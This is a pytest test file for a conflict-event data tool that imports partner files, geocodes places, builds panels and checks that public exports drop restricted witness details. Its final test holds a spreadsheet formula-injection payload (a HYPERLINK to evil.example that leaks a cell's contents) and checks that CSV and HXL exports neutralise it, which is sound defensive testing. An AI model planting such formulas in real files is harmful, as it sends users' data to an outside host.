"""Analysts' own files through a mapping, offline geocoding, panels and public exports."""

from __future__ import annotations

import csv
import io
import json
from datetime import date
from pathlib import Path

import pytest
import yaml

from tests.conftest import witness_report
from tests.integration.ingest.lookup import event
from tocsin.ingest.base import ImportOptions
from tocsin.ingest.export import EventFilter, export_events, public_page
from tocsin.ingest.pipeline import import_file
from tocsin.ingest.places import resolve_place, unresolved_places
from tocsin.store.models import Event
from tocsin.store.uow import Store

MAPPING = {
    "source": "partner-x",
    "columns": {
        "source_event_id": "ID",
        "event_date": "Date",
        "country": "Country",
        "admin1": "Region",
        "place_name": "Town",
        "event_type": "Type",
        "actor1": "Perpetrator",
        "civilian_targeting": "Civilians",
        "fatalities": "Killed",
        "notes": "What happened",
    },
    "date_format": "%d/%m/%Y",
    "violence_types": {
        "Attack on civilians": "violence_against_civilians",
        "Clash": "armed_conflict",
    },
}
ROWS = [
    # ID, Date, Country, Region, Town, Type, Perpetrator, Civilians, Killed, What happened
    [
        "1",
        "05/01/2019",
        "Burkina Faso",
        "Nord",
        "Ouahigouya",
        "Attack on civilians",
        "JNIM",
        "yes",
        "4",
        "Village attacked",
    ],
    ["2", "20/01/2019", "BFA", "Sahel", "Djibo", "Clash", "JNIM", "no", "10", "Clash"],
    [
        "3",
        "02/02/2019",
        "Burkina Faso",
        "Sahel",
        "Kelbo-Nowhere",
        "Attack on civilians",
        "Unknown",
        "yes",
        "2",
        "Place not in the gazetteer",
    ],
    ["4", "31/02/2019", "Burkina Faso", "Sahel", "Djibo", "Clash", "JNIM", "no", "1", "bad date"],
]


def write_mapping(tmp_path: Path) -> Path:
    path = tmp_path / "partner.yaml"
    path.write_text(yaml.safe_dump(MAPPING), encoding="utf-8")
    return path


def write_csv(tmp_path: Path) -> Path:
    path = tmp_path / "partner.csv"
    with path.open("w", newline="", encoding="utf-8") as handle:
        out = csv.writer(handle)
        out.writerow(
            [
                "ID",
                "Date",
                "Country",
                "Region",
                "Town",
                "Type",
                "Perpetrator",
                "Civilians",
                "Killed",
                "What happened",
            ]
        )
        out.writerows(ROWS)
    return path


def test_custom_csv_with_mapping_geocodes_and_panels(store: Store, tmp_path: Path, panels) -> None:
    options = ImportOptions(mapping=write_mapping(tmp_path))

    result = import_file(store, "csv", write_csv(tmp_path), options, panels=panels)

    assert (result.job.taken, result.job.rejected, result.job.unresolved) == (3, 1, 1)
    attack = event(store, "csv", "partner-x:1")
    assert attack.country_iso3 == "BFA" and attack.event_date == date(2019, 1, 5)
    assert attack.latitude == pytest.approx(13.58, abs=0.01)  # Ouahigouya, from GeoNames
    assert attack.violence_type == "violence_against_civilians" and attack.civilian_targeting
    [place] = unresolved_places(store, "BFA")
    assert (place.place_name, place.admin1, place.occurrences) == ("Kelbo-Nowhere", "Sahel", 1)

    panel = panels.read("country_month", "BFA")
    january = panel[panel.month.astype(str) == "2019-01-01"].iloc[0]
    assert (january.events, january.fatalities, january.civilian_events) == (2, 14, 1)
    assert january.civilian_share == 0.5 and january.events_armed_conflict == 1
    sahel = panels.read("admin1_month", "BFA")
    assert list(sahel.admin1) == ["Nord", "Sahel", "Sahel"]

    with store.uow(actor="user:1") as uow:
        assert resolve_place(uow, place.id, 14.3, -0.9) == 1
    assert event(store, "csv", "partner-x:3").latitude == 14.3
    assert unresolved_places(store, "BFA") == []


def test_xlsx_and_geojson_go_through_the_same_mapping(sqlite_store: Store, tmp_path: Path) -> None:
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    sheet.append(
        [
            "ID",
            "Date",
            "Country",
            "Region",
            "Town",
            "Type",
            "Perpetrator",
            "Civilians",
            "Killed",
            "What happened",
        ]
    )
    for row in ROWS[:2]:
        sheet.append([*row[:8], int(row[8]), row[9]])
    book.save(tmp_path / "partner.xlsx")
    options = ImportOptions(mapping=write_mapping(tmp_path))

    assert import_file(sqlite_store, "csv", tmp_path / "partner.xlsx", options).job.taken == 2
    assert event(sqlite_store, "csv", "partner-x:2").source_line == 3  # the sheet's row

    features = [
        {
            "type": "Feature",
            "geometry": {"type": "Point", "coordinates": [-1.5, 12.4]},
            "properties": dict(
                zip(
                    [
                        "ID",
                        "Date",
                        "Country",
                        "Region",
                        "Town",
                        "Type",
                        "Perpetrator",
                        "Civilians",
                        "Killed",
                        "What happened",
                    ],
                    ["9", *ROWS[0][1:]],
                    strict=False,
                )
            ),
        }
    ]
    (tmp_path / "partner.geojson").write_text(
        json.dumps({"type": "FeatureCollection", "features": features}), encoding="utf-8"
    )
    mapping = {
        **MAPPING,
        "columns": {**MAPPING["columns"], "latitude": "latitude", "longitude": "longitude"},
    }
    (tmp_path / "geo.yaml").write_text(yaml.safe_dump(mapping), encoding="utf-8")
    result = import_file(
        sqlite_store,
        "csv",
        tmp_path / "partner.geojson",
        ImportOptions(mapping=tmp_path / "geo.yaml"),
    )
    assert result.job.taken == 1
    point = event(sqlite_store, "csv", "partner-x:9")
    assert (point.latitude, point.longitude, point.source_line) == (12.4, -1.5, 1)


def test_public_exports_never_carry_restricted_fields(
    store: Store, tmp_path: Path, benin: Path
) -> None:
    import_file(store, "acled", benin)
    with store.uow() as uow:
        report = witness_report(uow, "R-SECRET-1", "BEN", "+229 555")
        uow.add(
            Event(
                dataset="report",
                source_event_id="R-SECRET-1",
                event_date=date(2022, 12, 30),
                country_iso3="BEN",
                notes="Witness Amina saw the attack",
                report_id=report.id,
                raw={"contact": "+229 555"},
            )
        )
        uow.commit()

    outputs = {}
    for fmt in ("csv", "geojson", "hxl"):
        buffer = io.StringIO()
        n = export_events(store, fmt, buffer, EventFilter(country="BEN", since=date(2022, 12, 1)))
        outputs[fmt] = buffer.getvalue()
        assert n > 1
    for text in outputs.values():
        for secret in ("R-SECRET-1", "Amina", "+229", "report_id", "raw"):
            assert secret not in text
    hxl = list(csv.reader(io.StringIO(outputs["hxl"])))
    tags = dict(zip(hxl[0], hxl[1], strict=False))
    assert tags["event_date"] == "#date+occurred" and tags["country_iso3"] == "#country+code"
    assert tags["latitude"] == "#geo+lat" and tags["fatalities"] == "#affected+killed"
    page, total = public_page(store, EventFilter(country="BEN", since=date(2022, 12, 1)), 2, 1)
    assert total == len(list(csv.DictReader(io.StringIO(outputs["csv"]))))
    assert [e["event_date"] for e in page] == sorted((e["event_date"] for e in page), reverse=True)
    assert all(e["notes"] is None for e in page if e["dataset"] == "report")
    geo = json.loads(outputs["geojson"])
    assert geo["features"][0]["geometry"]["type"] == "Point"
    assert all(f["properties"]["country_iso3"] == "BEN" for f in geo["features"])
    assert all(f["properties"]["event_date"] >= "2022-12-01" for f in geo["features"])


def test_csv_exports_keep_formulas_as_text(sqlite_store: Store) -> None:
    """A note written as a spreadsheet formula in an imported file reaches the CSV and HXL
    exports as text; numbers, and the GeoJSON export, are as they were."""
    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"details")'
    with sqlite_store.uow() as uow:
        uow.add(
            Event(
                dataset="csv",
                source_event_id="partner-x:1",
                event_date=date(2022, 5, 1),
                country_iso3="BFA",
                actor1="@SUM(1+1)",
                notes=formula,
                latitude=12.4,
                longitude=-1.5,
                fatalities=3,
            )
        )
        uow.commit()
    for fmt in ("csv", "hxl"):
        buffer = io.StringIO()
        export_events(sqlite_store, fmt, buffer, EventFilter(country="BFA"))
        row = list(csv.DictReader(io.StringIO(buffer.getvalue())))[-1]
        assert (row["notes"], row["actor1"]) == ("'" + formula, "'@SUM(1+1)")
        assert (row["longitude"], row["fatalities"]) == ("-1.5", "3")
    buffer = io.StringIO()
    export_events(sqlite_store, "geojson", buffer, EventFilter(country="BFA"))
    assert json.loads(buffer.getvalue())["features"][0]["properties"]["notes"] == formula
